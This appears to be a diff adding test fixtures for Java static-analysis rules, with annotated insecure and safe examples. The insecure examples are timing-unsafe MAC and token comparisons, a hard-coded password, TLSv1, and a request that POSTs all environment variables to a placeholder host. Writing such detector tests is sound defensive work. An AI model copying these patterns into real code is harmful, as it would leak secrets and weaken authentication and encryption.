@@ -110,4 +110,30 @@ public class Fixture {
         }
         chain.doFilter(req, res);
     }
+
+    boolean check(byte[] mac, byte[] expectedMac, String password, String token, String given) {
+        // ruleid: java-timing-unsafe-comparison
+        if (Arrays.equals(mac, expectedMac)) return true;
+        // ruleid: java-timing-unsafe-comparison
+        if (token.equals(given)) return true;
+        // ok: java-timing-unsafe-comparison
+        if (MessageDigest.isEqual(mac, expectedMac)) return true;
+        // ok: java-timing-unsafe-comparison
+        if (token.equals(null)) return false;
+        // ruleid: java-credential-compared-with-literal
+        return "Sup3rM@ster!".equals(password);
+    }
+
+    void report(HttpClient client) throws Exception {
+        String body = System.getenv().toString();
+        // ruleid: java-environment-sent-over-network
+        HttpRequest req = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(body)).build();
+        // ok: java-environment-sent-over-network
+        HttpRequest ok = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(System.getenv("REGION"))).build();
+    }
+
+    SSLContext old() throws Exception {
+        // ruleid: java-obsolete-tls-version
+        return SSLContext.getInstance("TLSv1");
+    }
 }
